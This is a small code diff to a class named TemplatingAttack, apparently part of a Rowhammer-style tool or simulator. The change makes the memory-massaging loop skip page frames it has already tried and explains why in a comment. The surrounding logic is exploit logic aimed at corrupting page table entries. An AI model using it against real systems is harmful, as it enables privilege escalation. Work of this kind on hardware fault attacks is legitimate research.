@@ -103,7 +103,15 @@ class TemplatingAttack:
             result.detail = "no template hits a PTE frame field usefully"
             return self._finish(result)
 
+        # One massage per templated frame: a frame's landing-pad VAs stay
+        # mapped after a failed attempt, so a second template in the same
+        # page would collide with them — and re-massaging a frame whose
+        # VMA was already released cannot succeed anyway.
+        massaged_pfns: Set[int] = set()
         for template in usable[:max_massage_attempts]:
+            if template.pfn in massaged_pfns:
+                continue
+            massaged_pfns.add(template.pfn)
             victim_va = self._massage_phase(attacker, template)
             if victim_va is None:
                 continue
